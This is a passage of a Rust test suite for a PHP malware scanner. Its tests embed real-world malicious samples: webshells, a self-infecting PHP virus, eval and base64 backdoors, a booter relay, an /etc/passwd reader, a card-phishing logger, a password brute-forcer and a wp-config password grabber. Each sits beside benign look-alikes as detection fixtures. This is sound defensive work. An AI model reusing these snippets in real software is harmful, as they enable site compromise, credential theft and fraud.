                function M() { $g = @file_get_contents($GLOBALS['URL']); $h = fopen($GLOBALS['TMP'], 'w'); fwrite($h, $g); }\n\
                if (file_exists($TMP)) { include($TMP); } else { M(); }";
    assert!(found(sess).contains(&Why::CodeFromInternet), "{:?}", found(sess));
    // fresh114's `cepot.php`: a whole shell kept URL-encoded, written to a `tempnam` file by a
    // function and required.
    let kept = format!(
        "<?php $i = rawurldecode(\"{}\");\nfunction x($i) {{ $t = tempnam('/tmp', '0'); $h = fopen($t, 'w+'); fwrite($h, $i); fclose($h); require $t; unlink($t); }}\nx($i);",
        "%3C%3Fphp%20system%28%24_GET%5B%27c%27%5D%29%3B%20".repeat(8)
    );
    assert!(found(&kept).contains(&Why::EvalOfDecoded), "{:?}", found(&kept));
    // A template compiled into a temporary file from the site's own text is not fetched.
    let compiled =
        "<?php $f = tempnam(sys_get_temp_dir(), 'tpl'); file_put_contents($f, compile($source)); include $f;";
    assert!(!found(compiled).contains(&Why::CodeFromInternet), "{:?}", found(compiled));
}

#[test]
fn a_script_copying_itself_into_every_php_file_is_found() {
    // fresh101's proof-of-concept virus: its own code read, then written behind an open tag
    // in front of each `*.php` of the folder.
    let virus = "<?php\nfunction execute($virus) { foreach (glob('*.php') as $f) { $s = fopen($f, 'r'); \
                 $i = fopen(\"$f.infected\", 'w'); $x = '<?php ' . $virus . ' ?>'; fputs($i, $x); \
                 while ($c = fgets($s)) { fputs($i, $c); } fclose($s); fclose($i); rename(\"$f.infected\", $f); } }\n\
                 $virus = file_get_contents(__FILE__);\nexecute($virus);\n";
    assert!(found(virus).contains(&Why::InjectsHiddenCode), "{:?}", found(virus));
    // A template copier reads a file of its own folder, not itself.
    let copier = virus.replace("file_get_contents(__FILE__)", "file_get_contents(__DIR__ . '/tpl.php')");
    assert!(!found(&copier).contains(&Why::InjectsHiddenCode), "{:?}", found(&copier));
}

#[test]
fn a_small_script_printing_the_servers_accounts_list_reads_other_sites() {
    // Regression: fresh120's planted `HEADER` prints `/etc/passwd`.
    assert_eq!(found("<?php\necho file_get_contents('/etc/passwd');\n"), [Why::ReadsOtherSites]);
    assert_eq!(found("<?php readfile('/etc/passwd');"), [Why::ReadsOtherSites]);
    // Read to check a name, not shown.
    assert!(found("<?php $u = file_get_contents('/etc/passwd'); $ok = strpos($u, 'www-data') !== false;").is_empty());
}

#[test]
fn a_target_passed_on_to_a_flooding_services_api_is_an_attack_relay() {
    // Regression: fresh122's `api.php` relays a booter's order (host, port, time, method).
    let relay = "<?php $d = json_decode(file_get_contents('php://input'), true); $host = $d['host']; $port = $d['port'];\n\
                 $url = \"https://booter.example/api?key=k&host=$host&port=$port&time=$time&method=$method\";\n\
                 $r = file_get_contents($url); echo json_encode(['message' => 'Attack Launched']);";
    assert_eq!(found(relay), [Why::NetworkFromInput]);
    // (Its words pass the shapes' gate: the relay reads no other word it names.)
    assert!(super::may_match(relay.as_bytes()));
    // A status page asking a monitor about its own host sends no order of the visitor's.
    let monitor = "<?php $r = file_get_contents('https://monitor.example/api?host=example.com&port=443&time=30&method=GET'); echo $r;";
    assert!(found(monitor).is_empty(), "{:?}", found(monitor));
}

#[test]
fn the_page_named_to_another_site_as_googlebot_is_a_link_sellers_client() {
    // Regression: fresh119's and fresh82's `Get_links` class in a theme's `functions.php`: the
    // page's address sent in a crawler's name, the links between the markers handed back.
    let client = "<?php class Get_link2 { var $host = 'links.example.net'; var $path = '/system.php';\n\
                  function get_remote() { $req_url = 'http://' . $_SERVER['HTTP_HOST'] . urldecode($_SERVER['REQUEST_URI']);\n\
                  $ua = \"Mozilla/5.0 (compatible; Googlebot/2.1; \" . $req_url . \")\"; @ini_set('user_agent', $ua);\n\
                  $data = @file_get_contents('http://' . $this->host . $this->path); preg_match('/<!--link-->(.*?)<!--link-->/', $data, $m); return $m[1]; } }";
    assert_eq!(found(client), [Why::PrintsRemoteContent]);
    // A test that sends a crawler's name of its own, the page's address apart.
    let test = client.replace("\" . $req_url . \")\"", "http://www.google.com/bot.html)\"");
    assert!(found(&test).is_empty(), "{:?}", found(&test));
}

#[test]
fn a_link_list_fetched_from_another_site_and_printed_is_found() {
    // fresh100's `backlink.php` and a `wp-blog-header.php` cut to its loading lines.
    let backlink = "<?php echo file_get_contents(\"https://spam.example/Backlink3.txt\"); ?>";
    assert_eq!(found(backlink), [Why::PrintsRemoteContent]);
    let header = "<?php\nrequire_once __DIR__ . '/wp-load.php';\nwp();\nrequire_once ABSPATH . WPINC . '/template-loader.php';\n\
                  $a = file_get_contents( 'https://hacked.example.ac.id/wp-content/sitk/toto.txt' );\necho $a;\n";
    assert_eq!(found(header), [Why::PrintsRemoteContent]);
    // Regression: fresh100's printer is a function of the file, given the list's address.
    let printer = "<?php\nfunction fetch_and_display_content($url) { $response = wp_remote_get($url);\n\
                   if (is_wp_error($response)) { return; } $body = wp_remote_retrieve_body($response); echo $body; }\n\
                   $links = 'https://www.backlinks.example/menu/server-id/script.txt';\nfetch_and_display_content($links);\n";
    assert_eq!(found(printer), [Why::PrintsRemoteContent]);
    // A function that fetches a version file and prints only its own words.
    let notice = printer.replace("echo $body;", "update_option('v', $body); } function show() { echo 'Updated';");
    assert!(found(&notice).is_empty(), "{:?}", found(&notice));
    // Regression (phpBB's `develop/generate_utf_casefold.php`): a download that prints its
    // progress, not the text it saves.
    let download = "<?php\nfunction download($url) { echo 'Downloading from ', $url, ' '; $fpr = fopen($url, 'rb');\n\
                    $fpw = fopen(basename($url), 'wb'); while ($d = fread($fpr, 1024)) { fwrite($fpw, $d); } echo \"\\n\"; }\n\
                    download('http://unicode.org/Public/UNIDATA/CaseFolding.txt');\n";
    assert!(found(download).is_empty(), "{:?}", found(download));
    // Another site's page (not a text file) shown by a script of its own: a status or a feed.
    let status = "<?php echo file_get_contents('https://status.example.com/summary.html');";
    assert!(found(status).is_empty(), "{:?}", found(status));
    // A text file fetched and kept, not printed.
    let kept = "<?php $v = file_get_contents('https://updates.example.com/version.txt'); if (version_compare($v, '2.0') > 0) { notify(); }";
    assert!(found(kept).is_empty(), "{:?}", found(kept));
}

#[test]
fn a_doorway_sitemap_and_a_script_for_strangers_are_found() {
    let sitemap = "<?php\n$base_url = 'https://shop.example/news/?video=';\n$local_file = 'kw.txt';\n\
                   $kw = file($local_file, FILE_IGNORE_NEW_LINES);\n$x = '<?xml version=\"1.0\"?>' . '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n\
                   foreach ($kw as $k) { $x .= '<url><loc>' . htmlspecialchars($base_url . $k) . '</loc></url>'; }\n\
                   file_put_contents('sitemap-1.xml', $x . '</urlset>');\n";
    assert!(found(sitemap).contains(&Why::SpamDoorway), "{:?}", found(sitemap));
    // A site's sitemap of its own pages, from its database.
    let own = "<?php $x = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">'; foreach ($db->query('SELECT slug FROM pages') as $p) \
               { $x .= '<url><loc>https://shop.example/' . $p['slug'] . '</loc></url>'; } file_put_contents('sitemap.xml', $x . '</urlset>');";
    assert!(found(own).is_empty(), "{:?}", found(own));
    // Regression: fresh162's `sitemap.php` reads its list from beside itself.
    let beside = sitemap.replace("$local_file = 'kw.txt';", "$local_file = dirname(__FILE__) . '/raptor.txt';");
    assert!(found(&beside).contains(&Why::SpamDoorway), "{:?}", found(&beside));
    // Regression: fresh162's `seonaga.php` makes a folder and a home page for each keyword.
    let folders = "<?php function make($d, $tpl) { $p = str_replace('{{ BRAND }}', strtoupper($d), $tpl);\n\
                   file_put_contents($d . '/index.html', $p); }\n$list = file('naga.txt', FILE_IGNORE_NEW_LINES);\n\
                   $tpl = file_get_contents('template.html');\nforeach ($list as $d) { if (!is_dir($d)) { mkdir($d, 0755, true); } make($d, $tpl); }";
    assert!(found(folders).contains(&Why::SpamDoorway), "{:?}", found(folders));
    // An installer making a folder with an index page of its own, from no list.
    let guard = "<?php if (!is_dir($up)) { mkdir($up); file_put_contents($up . '/index.html', ''); }";
    assert!(found(guard).is_empty(), "{:?}", found(guard));
    let strangers = "<?php $in = 0; foreach ($_COOKIE as $k => $v) { if (strstr(strval($k), 'wordpress_logged_in')) { $in = 1; break; } }\n\
                     if ($in == 0) { echo \"<script>document.addEventListener('click', function() { window.open('https://bit.ly/3AAX'); });</script>\"; }";
    assert!(found(strangers).contains(&Why::InjectedScript), "{:?}", found(strangers));
    // A cache that skips logged-in visitors prints no script.
    let cache = "<?php foreach ($_COOKIE as $k => $v) { if (strpos($k, 'wordpress_logged_in') === 0) { return; } } echo serve_cached();";
    assert!(found(cache).is_empty(), "{:?}", found(cache));
}

#[test]
fn a_function_name_in_hexadecimal_called_through_a_variable_is_found() {
    // fresh99's uploader: names kept in hexadecimal, decoded into a list, called from it.
    let hex = "<?php $main = ['55706C6F61646572', '7068705F756E616D65', '6D6F76655F75706C6F616465645F66696C65'];\n\
               foreach ($main as $i => $h) { $bd[$i] = hex2bin($h); }\n\
               if (isset($_FILES['f'])) { $bd[2]($_FILES['f']['tmp_name'], $_FILES['f']['name']); }";
    assert!(found(hex).contains(&Why::HiddenFunctionName), "{:?}", found(hex));
    // Hexadecimal data (a checksum, a colour table) in a file with callbacks names nothing.
    let data = "<?php $sum = 'a3f5c0d4e1b2'; $cb = 'strtoupper'; echo $cb($sum);";
    assert!(found(data).is_empty(), "{:?}", found(data));
}

#[test]
fn a_script_writing_the_accounts_contact_address_is_found() {
    // fresh102's `reset.php` (behind YAK's escapes) and older shells' "reset password" tools:
    // the contact address made the intruder's, then cPanel's reset asked for.
    let reset = "<?php $u = get_current_user(); $f = fopen(\"/home/$u/.contactemail\", 'w'); fwrite($f, $_POST['email']); fclose($f);";
    assert!(found(reset).contains(&Why::ChangesAccountContact), "{:?}", found(reset));
    let info =
        "<?php file_put_contents('/home' . $h . '/' . $u . '/.cpanel/contactinfo', \"email: x@example.net\\n\");";
    assert!(found(info).contains(&Why::ChangesAccountContact), "{:?}", found(info));
    // Read only (a status page showing the address), it changes nothing.
    let shown = "<?php echo htmlspecialchars(file_get_contents(getenv('HOME') . '/.contactemail'));";
    assert!(!found(shown).contains(&Why::ChangesAccountContact));
}

#[test]
fn a_card_and_its_code_labelled_in_french_and_logged_are_collected() {
    // Regression: fresh124's Carrefour kit labels the card and its code in French, appends
    // them to its results file and sends them to Telegram through a variable's address.
    let kit = "<?php if ($_POST['type'] == 'infos') { $message = 'Tel : ' . $_POST['tel'] . \"\\r\\n\";\n\
               $message .= 'N°.Carte : ' . $_POST['cn'] . \"\\r\\n\"; $message .= 'Code securité : ' . $_POST['sc'] . \"\\r\\n\";\n\
               file_put_contents('./rezult/r.txt', $message, FILE_APPEND); }";
    assert_eq!(found(kit), [Why::CredentialCollector]);
    // A shop's order note in French labels no card.
    let order = kit.replace("N°.Carte", "Commande").replace("Code securité", "Livraison");
    assert!(found(&order).is_empty(), "{:?}", found(&order));
}

#[test]
fn names_parsed_from_a_query_in_percent_codes_are_hidden() {
    // The wp2021 capture's `expect.php`: `array_map`, `strrev`, `gzuncompress`,
    // `base64_decode`, `create_function` spelled as a query in pieces, then called.
    let src = "<?php parse_str('0=%'.'61%'.'72%'.'72%'.'61%'.'79%'.'5f%'.'6d%'.'61%'.'70&'.'1=%'.'73%'.'74%'.'72%'.'72%'.'65%'.'76&'\
               .'3=%62%61%73%65%36%34%5f%64%65%63%6f%64%65&4=create_function', $f);\n\
               @$f[0]($f[4], array(), array('};' . $f[3]($f[1]('=oQD9')) . '//'));";
    assert_eq!(found(src), [Why::HiddenFunctionName]);
    // A query of ordinary words parsed: an application's own.
    assert!(found("<?php parse_str('page=1&sort=name', $q); $cb = 'trim'; $cb($q['sort']);").is_empty());
}

#[test]
fn dangerous_names_kept_in_base64_literals_are_hidden() {
    // The wp2021 captures' class backdoor (`info.php`): the decoder's name joined from pieces,
    // each name behind `junk::` in base64, run through `__call`.
    let src = "<?php class c { private $r = array(); public function __call($n, $a) { call_user_func_array($this->r[$n], $a); }\n\
               public function d($s) { $b = 'b' . 'ase' . '64' . '_' . 'de' . 'code'; return explode('::', $b($s), 2)[1]; }\n\
               public function p() { $f = $this->d(\"eStUbEtYd0VjeDBKMjBRPTo6Y3JlYXRlX2Z1bmN0aW9u\"); $g = $this->d(\"YVNOenRMdUd1b2NLQlljPTo6Z3ppbmZsYXRl\");\n\
               $this->r['x'] = $f('', $g($_POST['k'])); $this->x(); } } (new c())->p();";
    assert!(found(src).contains(&Why::HiddenFunctionName), "{:?}", found(src));
    // fresh138's doorway: the names in pieces, kept in a global table and called from it.
    let pieces = "<? $GLOBALS['_628_'] = Array(base64_decode('' . 'ZG' . 'VmaW5' . 'l'), base64_decode('ZmlsZV' . '9nZ' . 'XRfY29' . 'u' . 'dGV' . 'udHM' . '='),\n\
                  base64_decode('Y3VybF9leGVj'));\n$p = $GLOBALS['_628_'][1]('http://example.net/t.txt'); echo $p;";
    assert!(found(pieces).contains(&Why::HiddenFunctionName), "{:?}", found(pieces));
    // An application's base64 literals of data (an image, a key): no names in them.
    let data = "<?php $img = base64_decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='); $f = 'imagecreatefromstring'; $f($img);";
    assert!(!found(data).contains(&Why::HiddenFunctionName));
}

#[test]
fn a_list_of_common_passwords_sent_to_logins_is_a_password_cracker() {
    // Regression: fresh155's OpenCart brute-forcer.
    let guesser = "<?php function login($url, $user, $pass) { $ch = curl_init(); curl_setopt_array($ch, [CURLOPT_URL => \"$url/admin/index.php?route=common/login\",\n\
                   CURLOPT_POSTFIELDS => \"username=$user&password=$pass\"]); return curl_exec($ch); }\n\
                   $list = array('admin', 'demo', 'admin123', '123456', '123456789', '1234567', '12345678', 'password', 'qwerty', 'abc123', '654321');\n\
                   foreach (explode(\"\\n\", $_POST['sites']) as $site) { foreach ($list as $p) { login($site, 'admin', $p); } }";
    assert!(found(guesser).contains(&Why::PasswordCracker), "{:?}", found(guesser));
    // A password policy refusing the common ones, which sends nothing.
    let policy = guesser.replace("curl_exec", "strlen");
    assert!(!found(&policy).contains(&Why::PasswordCracker), "{:?}", found(&policy));
}

#[test]
fn a_database_password_cut_out_of_wp_config_and_printed_is_shown() {
    // Regression: fresh167's `mail.php` cuts the settings out of `wp-config.php`'s text.
    let grab = "<?php $file = @file_get_contents('../wp-config.php');\n\
                $pass = explode(\"'DB_PASSWORD', '\", $file); $pass = explode(\"');\", $pass[1]); $pass = $pass[0];\n\
                echo \"db-pass : $pass <br>\";";
    assert!(found(grab).contains(&Why::ShowsSiteSecrets), "{:?}", found(grab));
    // A migration tool that finds the line with a pattern and prints nothing of it.
    let tool = "<?php $c = file_get_contents('wp-config.php'); if (preg_match(\"/define\\(\\s*'DB_PASSWORD'\\s*,/\", $c)) { $ok = true; }";
    assert!(found(tool).is_empty(), "{:?}", found(tool));
}

#[test]
fn a_role_kept_from_other_roles_is_not_a_hidden_administrator() {
    // Regression: fresh166's User Role Editor keeps administrators, looked up by their role, out
    // of the users list that editors see.
    let ure = "<?php class Protect { function __construct() { add_action('pre_user_query', array($this, 'exclude')); }\n\
               function exclude($q) { global $wpdb; $ids = $wpdb->get_col($wpdb->prepare(\"SELECT user_id FROM {$wpdb->usermeta} WHERE meta_value like %s\", '%administrator%'));\n\
               $q->query_where .= \" AND ( $wpdb->users.ID NOT IN ( \" . implode(',', $ids) . \" ) )\"; } }";
    assert!(found(ure).is_empty(), "{:?}", found(ure));
    // One account left out by its name is an intruder's.
    let one = "<?php add_action('pre_user_query', 'hide'); function hide($q) { global $wpdb;\n\
               $q->query_where = str_replace('WHERE 1=1', \"WHERE 1=1 AND {$wpdb->users}.user_login != 'wpsupport'\", $q->query_where); }";
    assert_eq!(found(one), [Why::HiddenAdministrator]);
}

#[test]
fn a_small_script_running_php_from_an_archive_it_unpacks_is_found() {
    // Regression: fresh166's `siomay.php`.
    let zip = "<?php $zip = new ZipArchive; if ($zip->open('nasgor.zip') === TRUE) { $p = 'extracted/';\n\
               if ($zip->extractTo($p)) { $f = $p . 'hehe.php'; if (file_exists($f)) { include($f); } } $zip->close(); }";
    assert_eq!(found(zip), [Why::IncludeOfData]);
    // An importer that unpacks and reads a data file.
    let import = zip.replace("include($f);", "$rows = json_decode(file_get_contents($f), true);");
    assert!(found(&import).is_empty(), "{:?}", found(&import));
}

#[test]
fn an_object_made_from_a_request_field_that_evals_its_property_is_found() {
    // Regression: fresh174's `common.php` runs the posted field from `__destruct`.
    let obj = "<?php class Navigator { var $info; function __construct($u) { $this->info = $u; }\n\
               function __destruct() { $this->run(); } function run() { eval($this->info); } }\n\
               $n = new Navigator($_POST['common']);";
    assert!(found(obj).contains(&Why::CodeFromInput), "{:?}", found(obj));
    assert!(super::may_match(obj.as_bytes()));
    // A template compiled from a file and evaluated, the object made from a setting.
    let tpl = obj.replace("$_POST['common']", "$config['template']");
    assert!(!found(&tpl).contains(&Why::CodeFromInput), "{:?}", found(&tpl));
}
